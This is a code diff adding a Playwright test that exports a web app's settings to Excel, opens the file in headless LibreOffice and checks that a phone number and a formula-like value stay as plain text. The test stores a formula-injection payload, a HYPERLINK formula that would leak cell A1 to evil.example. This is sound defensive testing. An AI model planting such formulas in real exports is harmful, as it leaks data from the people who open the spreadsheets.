@@ -1,6 +1,17 @@
-import { readFile } from 'node:fs/promises';
+import { execFile } from 'node:child_process';
+import { existsSync } from 'node:fs';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { delimiter, join } from 'node:path';
+import { promisify } from 'node:util';
 import { expect, test } from './fixtures';
-import { dataRows, parseCsv, shot, signInAsAdmin } from './helpers';
+import { dataRows, goInApp, parseCsv, shot, signInAsAdmin } from './helpers';
+
+// LibreOffice Calc opens the Excel export as a person would (CI installs it, as for tests/unit/csvSpreadsheet).
+const soffice = (process.env.PATH ?? '')
+  .split(delimiter)
+  .map((dir) => join(dir, 'soffice'))
+  .find((path) => existsSync(path));
 
 const FORMULA_USER = {
   firstName: '=SUM(1+2)',
@@ -73,5 +84,71 @@ test.describe('CSV export', () => {
     expect(byEmail.get(FORMULA_USER.email)?.[firstName]).toBe(`'${FORMULA_USER.firstName}`);
     // No cell anywhere starts a formula.
     for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
+  });
+});
+
+test.describe('Excel export', () => {
+  test.skip(
+    !soffice && !process.env.CI,
+    'LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui',
+  );
+
+  test('the settings saved as Excel from the Export menu open in LibreOffice with the phone as "+966…" text and a formula-like value as text, no apostrophe, no formula', async ({
+    page,
+  }) => {
+    await signInAsAdmin(page);
+    // A value a spreadsheet would run, saved through the (fake) API with the admin's stored token.
+    const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
+    const status = await page.evaluate(async (value) => {
+      const response = await fetch('/api/v1/settings/e2e_formula?lang=en', {
+        method: 'PATCH',
+        headers: {
+          'content-type': 'application/json',
+          accept: 'application/json',
+          authorization: localStorage.getItem('token') ?? '',
+        },
+        body: JSON.stringify({ value }),
+      });
+      return response.status;
+    }, FORMULA);
+    expect(status).toBe(200);
+
+    await goInApp(page, '/settings');
+    await expect(dataRows(page).filter({ hasText: 'support_phone' })).toContainText('+966');
+    const downloading = page.waitForEvent('download');
+    await page.getByRole('button', { name: 'File formats' }).click();
+    await page.getByRole('menuitem', { name: 'Excel (.xlsx)' }).click();
+    const download = await downloading;
+    expect(download.suggestedFilename()).toBe('settings.xlsx');
+
+    const dir = await mkdtemp(join(tmpdir(), 'xlsx-calc-'));
+    try {
+      const input = join(dir, 'settings.xlsx');
+      await download.saveAs(input);
+      await promisify(execFile)(
+        soffice ?? 'soffice',
+        [
+          `-env:UserInstallation=file://${join(dir, 'profile')}`,
+          '--headless',
+          '--convert-to',
+          'fods',
+          '--outdir',
+          dir,
+          input,
+        ],
+        { timeout: 90_000 },
+      );
+      // Calc writes the sheet indented: the markup between elements is left out.
+      const sheet = (await readFile(join(dir, 'settings.fods'), 'utf8')).replace(/>\s+</g, '><');
+      const cell = (text: string) =>
+        `<table:table-cell office:value-type="string" calcext:value-type="string"><text:p>${text}</text:p></table:table-cell>`;
+      const row = (key: string) =>
+        sheet.match(new RegExp(`<table:table-row[^>]*>${cell(key)}(.*?)</table:table-row>`))?.[1];
+      expect(row('support_phone')).toMatch(new RegExp(`^${cell('\\+966\\d+')}$`));
+      expect(row('e2e_formula')).toBe(cell(FORMULA.replace(/&/g, '&amp;').replace(/"/g, '&quot;')));
+      expect(sheet).not.toContain('table:formula');
+    } finally {
+      await rm(dir, { recursive: true, force: true });
+    }
   });
 });
